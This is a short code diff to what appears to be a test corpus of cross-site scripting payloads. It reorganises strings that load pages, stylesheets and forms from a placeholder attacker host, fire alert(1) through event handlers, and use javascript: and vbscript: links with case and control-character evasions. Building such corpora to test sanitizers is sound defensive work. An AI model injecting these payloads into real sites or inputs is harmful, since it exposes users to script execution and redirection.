@@ -20,13 +20,12 @@ COLLECTION: dict[str, tuple[str, ...]] = {
         f"<embed src={EVIL}/a.html>",
         f"<base href={EVIL}/>",
         f"<link rel=stylesheet href={EVIL}/a.css>",
-        f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
         f"<form action={EVIL}/><button autofocus>x</button></form>",
         f"<style>@import '{EVIL}/a.css';</style>",
     ),
     "handlers": (
         "<img src=x: onerror=alert(1)>",
-        "<img/src=x:/onerror=alert(1)//",
+        "<img/src='x:'/onerror=alert(1)>",
         "<IMG SRC=x: OnErRoR\n=\nalert(1)>",
         "<body onload=alert(1)>",
         "<details open ontoggle=alert(1)>x</details>",
@@ -103,6 +102,7 @@ COLLECTION: dict[str, tuple[str, ...]] = {
         "\u2028<script>alert(1)</script>\u2029",
     ),
     "addresses": (
+        f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
         "<a href=javascript:alert(1)>x</a>",
         "<a href=' \x01java\nscript:alert(1)'>x</a>",
         "<a href=vbscript:alert(1)>x</a>",
